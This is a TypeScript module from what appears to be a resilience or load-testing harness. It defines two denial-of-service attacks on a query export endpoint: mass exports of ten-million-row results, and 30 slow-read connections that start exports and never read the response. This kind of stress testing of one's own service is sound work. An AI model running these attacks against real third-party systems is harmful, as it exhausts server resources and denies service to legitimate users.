import type { Attack } from "../attack.types.js"
import { inTurn } from "../attacker.js"

const FORMATS = ["csv", "jsonl", "parquet"]
const SLOW_EXPORTS = 30

const bodyOf = (index: number): string =>
  JSON.stringify({
    query: {
      kind: "HogQLQuery",
      query: `SELECT number, ${index}, repeat(toString(sipHash64(number)), 10) FROM numbers(10000000)`,
    },
  })

/** Answers that are sent while they are made. */
export const EXPORT_ATTACKS: readonly Attack[] = [
  {
    name: "exports",
    needs: "personal key",
    what: "Eight clients export ten million rows of 200 bytes as CSV, JSON lines and Parquet.",
    run: (attacker, signal) =>
      attacker.repeat(8, signal, (index) => {
        const path = attacker.path(`query/export/?format=${inTurn(FORMATS, index)}`)
        return attacker.send({ path, headers: attacker.bearer, body: bodyOf(index) }, signal)
      }),
  },
  {
    name: "slow-exports",
    needs: "personal key",
    what: "30 clients begin such exports and do not read them.",
    run: (attacker, signal) =>
      attacker.hold(SLOW_EXPORTS, signal, (index) => {
        const body = bodyOf(index)
        const path = attacker.path(`query/export/?format=${inTurn(FORMATS, index)}`)
        const head = `POST ${path} HTTP/1.1\r\nHost: a\r\nAuthorization: ${attacker.bearer.Authorization}\r\nContent-Type: application/json\r\nContent-Length: ${body.length}\r\n\r\n`
        attacker.open(head + body, signal).pause()
      }),
  },
]
